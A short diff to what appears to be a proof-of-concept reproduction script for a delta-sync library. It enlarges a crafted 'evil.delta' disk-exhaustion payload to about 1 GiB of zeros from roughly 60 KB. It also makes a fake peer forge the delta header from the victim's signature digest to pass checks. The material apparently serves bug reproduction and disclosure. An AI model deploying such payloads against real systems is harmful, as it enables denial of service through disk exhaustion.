@@ -115,9 +115,12 @@ except pydelta.PydeltaError as e:
 
 
 def repro_disk(d: str) -> str:
-    """Item 4: 16 'Z' ops of 64 MiB zeros (~33 KB) for a pull announced as 4 bytes."""
+    """Item 4: 256 'Z' ops of 4 MiB zeros (1 GiB from ~60 KB) for a pull announced as 4 bytes."""
     delta = _write(
-        os.path.join(d, "evil.delta"), E.native_delta(0, [E.zero_z_op()] * 16, b"abcd", flags=1)
+        os.path.join(d, "evil.delta"),
+        E.native_delta(0, [E.zero_z_op()] * 256, b"abcd", flags=1)[
+            60:
+        ],  # header made per signature
     )
     dest = os.path.join(d, "dest")
     os.mkdir(dest)
@@ -130,7 +133,8 @@ def script(p):
     while True:
         m = p.recv_json()
         if m["op"] == "get":
-            p.send_json({meta!r}); p.recv_stream(); p.send_stream(delta)
+            p.send_json({meta!r}); sig = p.recv_stream()
+            p.send_stream(E.delta_header(0, flags=1, sig_digest=sig[-36:-4]) + delta)
         elif m["op"] == "stat":
             p.send_json({meta!r})
         elif m["op"] == "bye":
